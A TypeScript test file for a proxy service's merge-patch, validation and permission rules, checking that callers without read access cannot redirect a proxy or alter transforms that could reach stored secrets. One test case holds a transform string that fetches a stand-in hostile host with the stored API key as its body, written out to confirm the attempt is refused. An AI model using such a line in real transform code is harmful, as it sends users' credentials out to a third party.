import { DomainError } from '../shared/errors';
import { ALLOWED_HOSTS, anApplication, aValidProxy, DESTINATION, PRIVATE_APP_ID, TENANT } from './proxy.builders';
import { mergeProxyPatch, proxyBodyOf, proxyChange, type ProxyBody } from './proxy.patch';
import { assertProxyChangeAllowed, DESTINATION_NEEDS_READ_MESSAGE, KEPT_PROXY_SECRETS_NEED_READ_MESSAGE } from './proxy.rules';
import type { ValidProxy } from './proxy.types';
import { validateProxyInput } from './proxy.validate';

const CODE = { type: 'code' as const, code: 'return args;' };
const MASK = { type: 'mask' as const, fields: ['$.card.number'] };

const stored = aValidProxy({ application_id: PRIVATE_APP_ID, request_transforms: [CODE], response_transforms: [MASK] });
const current: ProxyBody = proxyBodyOf(stored);
const context = { tenantId: TENANT, application: anApplication(), hosts: ALLOWED_HOSTS };

describe('proxyBodyOf', () => {
  it('restates a proxy as the PUT body that would make it', () => {
    expect(current).toEqual({
      name: 'Charge card',
      destination_url: DESTINATION,
      require_auth: true,
      application: { id: PRIVATE_APP_ID },
      configuration: { api_key: 'sk_live_5ecret', region: 'eu' },
      request_transforms: [CODE],
      response_transforms: [MASK],
    });
    expect(validateProxyInput(current, context)).toEqual(stored);
  });

  it('gives no application as null', () => {
    expect(proxyBodyOf(aValidProxy()).application).toBeNull();
  });
});

describe('mergeProxyPatch', () => {
  const { application: _application, ...withoutApplication } = current;

  it.each<[string, unknown, Record<string, unknown>]>([
    ['an empty patch keeps everything', {}, { ...current }],
    ['a new name replaces the name', { name: 'Renamed' }, { ...current, name: 'Renamed' }],
    ['a new destination replaces the destination', { destination_url: 'http://localhost:8080/hook' }, { ...current, destination_url: 'http://localhost:8080/hook' }],
    ['require_auth false replaces require_auth', { require_auth: false }, { ...current, require_auth: false }],
    ['a configuration object merges into the configuration', { configuration: { api_key: 'sk_live_new' } }, { ...current, configuration: { api_key: 'sk_live_new', region: 'eu' } }],
    ['a new setting is added to the others', { configuration: { timeout: '5' } }, { ...current, configuration: { api_key: 'sk_live_5ecret', region: 'eu', timeout: '5' } }],
    ['null inside configuration removes that setting', { configuration: { region: null } }, { ...current, configuration: { api_key: 'sk_live_5ecret' } }],
    ['a null configuration removes every setting', { configuration: null }, (({ configuration: _c, ...rest }) => rest)(current)],
    ['a configuration that is not an object replaces it (validation then rejects it)', { configuration: 'x' }, { ...current, configuration: 'x' }],
    ['a list of transforms replaces the list, never merges into it', { request_transforms: [MASK, MASK] }, { ...current, request_transforms: [MASK, MASK] }],
    ['an empty list removes the transforms of its direction', { response_transforms: [] }, { ...current, response_transforms: [] }],
    ['null removes the transforms of its direction', { response_transforms: null }, (({ response_transforms: _r, ...rest }) => rest)(current)],
    ['the older single form replaces the list of its direction', { request_transform: { code: 'return 1;' } }, (({ request_transforms: _r, ...rest }) => ({ ...rest, request_transform: { code: 'return 1;' } }))(current)],
    ['a null single form removes the transforms of its direction', { response_transform: null }, (({ response_transforms: _r, ...rest }) => rest)(current)],
    ['null application removes the application', { application: null }, withoutApplication],
    ['null name removes it (validation then requires it)', { name: null }, (({ name: _n, ...rest }) => rest)(current)],
    ['a key and unknown properties are kept for validation to reject', { key: 'k', icon: 'x' }, { ...current, key: 'k', icon: 'x' }],
  ])('%s', (_title, patch, expected) => {
    expect(mergeProxyPatch(current, patch)).toEqual(expected);
  });

  it('gives an application to a proxy that had none', () => {
    expect(mergeProxyPatch({ ...current, application: null }, { application: { id: PRIVATE_APP_ID } })).toEqual(current);
  });

  it('leaves out the application of a proxy that has none', () => {
    expect(mergeProxyPatch({ ...current, application: null }, {})).not.toHaveProperty('application');
  });

  it.each([['an array', ['name']], ['a string', 'name'], ['null', null]])('refuses a patch that is %s, on body', (_title, patch) => {
    expect(() => mergeProxyPatch(current, patch)).toThrow(DomainError);
    expect(() => mergeProxyPatch(current, patch)).toThrow(expect.objectContaining({ kind: 'validation', errors: { body: [expect.stringContaining('must be a JSON object')] } }));
  });

  it('keeps a patched setting named __proto__ as an own property', () => {
    const merged = mergeProxyPatch(current, JSON.parse('{"configuration":{"__proto__":"v"}}'));
    expect(Object.hasOwn(merged.configuration as object, '__proto__')).toBe(true);
  });

  it('never changes the proxy it is given', () => {
    const before = JSON.stringify(current);
    mergeProxyPatch(current, { configuration: { api_key: null, x: 'y' }, request_transforms: [], application: null });
    expect(JSON.stringify(current)).toBe(before);
  });
});

describe('a merge-patched proxy validates as a PUT', () => {
  const patched = (patch: unknown) => validateProxyInput(mergeProxyPatch(current, patch), context);

  it('with the older single form in place of a list', () => {
    expect(patched({ request_transform: { code: 'return 1;' } }).request_transforms).toEqual([{ type: 'code', code: 'return 1;' }]);
  });

  it('with a setting removed', () => {
    expect(patched({ configuration: { region: null } }).configuration).toEqual({ api_key: 'sk_live_5ecret' });
  });

  it('refusing a removed name, on name', () => {
    expect(() => patched({ name: null })).toThrow(expect.objectContaining({ kind: 'validation', errors: { name: ['name is required.'] } }));
  });

  it('refusing a key, which never changes', () => {
    expect(() => patched({ key: 'k' })).toThrow(expect.objectContaining({ errors: { key: [expect.stringContaining("A proxy's key is generated and never changes.")] } }));
  });

  it('refusing an application removed from a proxy that tokenizes, on application', () => {
    const tokenizing = proxyBodyOf(aValidProxy({ application_id: PRIVATE_APP_ID, request_transforms: [{ type: 'tokenize', fields: [{ json_path: '$.pan', token: { type: 'card_number' } }] }] }));
    expect(() => validateProxyInput(mergeProxyPatch(tokenizing, { application: null }), context)).toThrow(
      expect.objectContaining({ errors: { application: [expect.stringContaining('application is required when a transform tokenizes')] } }),
    );
  });
});

/** What the handler does with a PATCH (patch given) or a PUT (body given): merge, validate, then ask the rule. */
const change = (request: { patch: Record<string, unknown> } | { put: Record<string, unknown> }, canRead: boolean, from: ValidProxy = stored) => () => {
  const body = 'patch' in request ? mergeProxyPatch(proxyBodyOf(from), request.patch) : request.put;
  validateProxyInput(body, context);
  assertProxyChangeAllowed({ canRead, ...proxyChange('patch' in request ? request.patch : null) });
};

const NEEDS_READ_FOR_DESTINATION = expect.objectContaining({ kind: 'forbidden', errors: { destination_url: [DESTINATION_NEEDS_READ_MESSAGE] } });
const NEEDS_READ_FOR_CONFIGURATION = expect.objectContaining({ kind: 'forbidden', errors: { configuration: [KEPT_PROXY_SECRETS_NEED_READ_MESSAGE] } });

describe('a PATCH without proxy:read', () => {
  it.each<[string, Record<string, unknown>]>([
    ['renames the proxy', { name: 'Renamed' }],
    ['changes the application', { application: null }],
    ['removes the whole configuration and changes the transforms', { configuration: null, response_transform: { code: 'return 1;' } }],
    ['removes the whole configuration and turns off authentication', { configuration: null, require_auth: false }],
  ])('is allowed when it %s', (_title, patch) => {
    expect(change({ patch }, false)).not.toThrow();
  });

  it('is refused the transforms even of a proxy that holds no configuration: whether it holds one is not for it to learn', () => {
    expect(change({ patch: { request_transforms: [MASK], require_auth: false } }, false, aValidProxy({ configuration: {} }))).toThrow(NEEDS_READ_FOR_CONFIGURATION);
  });

  it.each<[string, Record<string, unknown>]>([
    ['moves the destination to another listed host', { destination_url: 'http://localhost:8080/hook' }],
    ['restates the destination, even in the spelling stored (whether it is tells what is stored)', { destination_url: 'https://api.example.com/v1/charges' }],
    ['moves the destination to another path of the same host', { destination_url: 'https://api.example.com/v2/charges' }],
    ['moves the destination, even giving the whole configuration anew', { destination_url: 'http://localhost:8080/hook', configuration: { api_key: 'k', region: 'r' } }],
    ['moves the destination and changes the transforms while keeping the configuration', { destination_url: 'http://localhost:8080/hook', request_transforms: [] }],
  ])('is refused, naming destination_url, when it %s', (_title, patch) => {
    expect(change({ patch }, false)).toThrow(NEEDS_READ_FOR_DESTINATION);
  });

  it.each<[string, Record<string, unknown>]>([
    ['changes the request transforms', { request_transforms: [CODE, { type: 'code', code: 'fetch("https://evil.example.net", { body: configuration.api_key })' }] }],
    ['removes the response transforms', { response_transforms: null }],
    ['changes the transforms in the older single form', { request_transform: { code: 'return configuration;' } }],
    ['turns off authentication', { require_auth: false }],
    ['changes one setting', { configuration: { api_key: 'sk_live_new' } }],
    ['adds a setting', { configuration: { timeout: '5' } }],
    ['removes one setting', { configuration: { region: null } }],
    ['restates the whole configuration (whether it is whole tells what is stored)', { configuration: { api_key: 'sk_live_5ecret', region: 'eu' } }],
    ['restates what is stored', { require_auth: true }],
  ])('is refused, naming configuration, when it %s', (_title, patch) => {
    expect(change({ patch }, false)).toThrow(NEEDS_READ_FOR_CONFIGURATION);
  });
});

describe('a PATCH with proxy:read', () => {
  it.each<[string, Record<string, unknown>]>([
    ['moves the destination', { destination_url: 'http://localhost:8080/hook' }],
    ['changes one setting', { configuration: { api_key: 'sk_live_new' } }],
    ['changes the transforms and authentication, keeping the configuration', { request_transforms: [], require_auth: false }],
    ['does everything at once', { destination_url: 'http://localhost:8080/hook', configuration: { timeout: '5' }, response_transform: { code: 'return 1;' } }],
  ])('is allowed when it %s', (_title, patch) => {
    expect(change({ patch }, true)).not.toThrow();
  });
});

describe('a PUT', () => {
  const put = (overrides: Record<string, unknown>) => ({ put: { ...current, ...overrides } });

  it('without proxy:read is refused, naming destination_url, whatever it says: it restates the destination', () => {
    expect(change(put({}), false)).toThrow(NEEDS_READ_FOR_DESTINATION);
    expect(change(put({ destination_url: 'http://localhost:8080/hook' }), false)).toThrow(NEEDS_READ_FOR_DESTINATION);
  });

  it('with proxy:read may change anything', () => {
    expect(change(put({ destination_url: 'http://localhost:8080/hook', configuration: null }), true)).not.toThrow();
  });
});

describe('proxyChange', () => {
  it('reads a PUT as touching everything', () => {
    expect(proxyChange(null)).toEqual({ destinationTouched: true, runTouched: true, configurationCleared: true });
  });

  it('reads a PATCH by the properties it gives, never by the values stored', () => {
    expect(proxyChange({ name: 'x' })).toEqual({ destinationTouched: false, runTouched: false, configurationCleared: false });
    expect(proxyChange({ destination_url: 'x' }).destinationTouched).toBe(true);
    expect(proxyChange({ require_auth: true })).toEqual({ destinationTouched: false, runTouched: true, configurationCleared: false });
    expect(proxyChange({ configuration: null, request_transform: null })).toEqual({ destinationTouched: false, runTouched: true, configurationCleared: true });
  });
});

describe('assertProxyChangeAllowed', () => {
  it('lets a reader do anything', () => {
    expect(() => assertProxyChangeAllowed({ canRead: true, destinationTouched: true, runTouched: true, configurationCleared: false })).not.toThrow();
  });

  it('names the destination first when a change touches both', () => {
    expect(() => assertProxyChangeAllowed({ canRead: false, destinationTouched: true, runTouched: true, configurationCleared: false })).toThrow(NEEDS_READ_FOR_DESTINATION);
  });

  it('lets a change that removes the whole configuration run anything', () => {
    expect(() => assertProxyChangeAllowed({ canRead: false, destinationTouched: false, runTouched: true, configurationCleared: true })).not.toThrow();
  });

  it('lets a change that touches nothing that runs keep every secret', () => {
    expect(() => assertProxyChangeAllowed({ canRead: false, destinationTouched: false, runTouched: false, configurationCleared: false })).not.toThrow();
  });
});

describe('a patch that gives both forms of one direction', () => {
  it('keeps the list when the single form beside it is null, as a PUT does', () => {
    const patch = { request_transforms: [MASK], request_transform: null };
    expect(validateProxyInput({ ...current, ...patch }, context).request_transforms).toEqual([MASK]);
    expect(validateProxyInput(mergeProxyPatch(current, patch), context).request_transforms).toEqual([MASK]);
  });

  it.each<[string, Record<string, unknown>]>([
    ['the list first', { request_transforms: [MASK], request_transform: { code: 'return 1;' } }],
    ['the single form first', { request_transform: { code: 'return 1;' }, request_transforms: [MASK] }],
  ])('is refused on request_transform, as a PUT is, whatever the order: %s', (_title, patch) => {
    expect(() => validateProxyInput(mergeProxyPatch(current, patch), context)).toThrow(
      expect.objectContaining({ kind: 'validation', errors: { request_transform: [expect.stringContaining('not both')] } }),
    );
  });
});
